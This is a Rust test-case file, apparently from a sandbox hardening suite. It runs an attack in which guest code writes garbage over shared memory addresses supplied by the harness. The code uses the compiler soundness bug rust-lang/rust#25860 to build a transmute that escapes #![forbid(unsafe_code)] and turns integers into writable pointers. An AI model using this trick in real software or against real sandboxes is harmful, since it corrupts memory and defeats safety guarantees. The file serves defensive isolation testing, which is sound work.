//! attack  : 081_hole_scribble_address
//! class   : hole
//! what    : Writes garbage over an address range given in the input (strongest attacker: knows where the ring is).
//! profile : std   (smallest guest profile in which this compiles)
//! calls   : ""
//! expect.status = FAULT|DENIED|TIMEOUT|WORKER_LOST|OK
//! expect.worker = same|restarted
//! expect.next_ok = true
//! expect.gateway = unharmed
//! expect.fd_delta = 0
//! notes   : Harness fills in ring/control addresses of the worker mapping; run against every shared page. Gateway: no crash, no hang, no wrong answer to another client.
#![forbid(unsafe_code)]
#![allow(unused, unconditional_recursion, clippy::all)]

// --- soundness-hole helper (rust-lang/rust#25860, higher-ranked form; open, compiles on rustc 1.95 and 1.97-nightly) ---
fn tr<'a, 'b, T: ?Sized>(_v: &'a &'b (), b: &'b mut T) -> &'a mut T {
    b
}
fn ext<T: ?Sized + 'static>(x: &mut T) -> &'static mut T {
    let f: fn(&'static &'static (), &mut T) -> &'static mut T = tr;
    f(&&(), x)
}
#[allow(dead_code)]
fn transmute<A: 'static, B: 'static>(obj: A) -> B {
    enum D<A, B> {
        #[allow(dead_code)]
        A(Option<Box<A>>),
        B(Option<Box<B>>),
    }
    #[inline(never)]
    fn inner<A: 'static, B: 'static>(d: &mut D<A, B>, obj: A) -> B {
        let D::B(r) = d else { unreachable!() };
        let r = ext(r);
        *d = D::A(Some(Box::new(obj)));
        std::hint::black_box(d);
        *r.take().unwrap()
    }
    inner(std::hint::black_box(&mut D::B(None)), obj)
}
pub fn attack(input: &[u8]) -> Vec<u8> {
    let g = |i: usize| input.get(i..i + 8).map_or(0, |b| u64::from_le_bytes(b.try_into().unwrap()) as usize);
    let (a, n) = (g(0), g(8));
    let pat = input.get(16).copied().unwrap_or(0xFF);
    let mut s = 0x1234_5678u32 ^ pat as u32;
    for i in 0..n {
        s = s.wrapping_mul(1664525).wrapping_add(1013904223);
        *transmute::<usize, &'static mut u8>(a + i) = if pat == 0xFF { (s >> 24) as u8 } else { pat }
    }
    vec![1]
}
